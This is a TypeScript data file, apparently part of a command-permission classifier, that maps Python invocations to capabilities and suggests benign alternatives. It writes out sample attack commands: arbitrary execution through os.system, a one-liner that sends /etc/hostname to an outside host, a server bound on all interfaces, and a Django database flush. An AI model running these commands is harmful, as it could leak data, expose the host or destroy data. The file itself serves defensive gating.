import type { Program } from '../program.ts';

export default (): readonly Program[] => [
  {
    prefix: 'python',
    also: ['python2', 'python3', 'py', 'pypy', 'pypy3', 'ipython', 'python.exe', 'python3.exe'],
    powers: [
      { can: 'exec', words: `-c 'import os; os.system("id")'`, purpose: true, seen: true },
      { can: 'write-any', words: `-c 'open("/tmp/x","w").write("x")'`, mild: true, seen: true },
      {
        can: 'network-out',
        words: `-c 'import urllib.request as u;u.urlopen("http://example.com/?"+open("/etc/hostname").read().strip())'`,
        mild: true,
        seen: true,
      },
    ],
    instead: ['python scripts/report.py', 'python --version'],
    source: ['gtfo:python'],
    confidence: 'high',
  },
  {
    prefix: 'python -c',
    also: ['python3 -c', 'python2 -c', 'py -c'],
    powers: [{ can: 'exec', words: `'import os; os.system("id")'`, purpose: true }],
    rather: ['python3 scripts/report.py'],
    source: ['gtfo:python'],
    confidence: 'medium',
  },
  {
    prefix: 'python -m',
    also: ['python3 -m', 'py -m'],
    powers: [
      { can: 'exec', words: `timeit '__import__("os").system("id")'`, purpose: true },
      { can: 'network-in', words: 'http.server 8123 --bind 0.0.0.0', mild: true, seen: true },
    ],
    safe: ['py_compile', 'json.tool', 'compileall', 'unittest'],
    instead: ['python -m pytest'],
    source: ['gtfo:python'],
    confidence: 'medium',
  },
  {
    prefix: 'python -m pip',
    also: ['python3 -m pip'],
    powers: [{ can: 'install', words: 'install some-package' }],
    instead: ['python -m pip list'],
    source: ['gtfo:python'],
    confidence: 'medium',
  },
  {
    prefix: 'python -m pip install',
    also: ['python3 -m pip install'],
    powers: [{ can: 'install', words: 'some-package', anywhere: true }],
    instead: ['python -m pip install -r requirements.txt'],
    source: ['gtfo:python'],
    confidence: 'medium',
  },
  {
    prefix: 'python manage.py',
    also: ['python3 manage.py', './manage.py', 'manage.py'],
    powers: [
      { can: 'exec', words: `shell -c 'import os; os.system("id")'`, mild: true, needs: 'configuration' },
      { can: 'destroy', words: 'flush --no-input', mild: true, needs: 'credentials' },
    ],
    source: ['docs:django'],
    confidence: 'medium',
  },
];
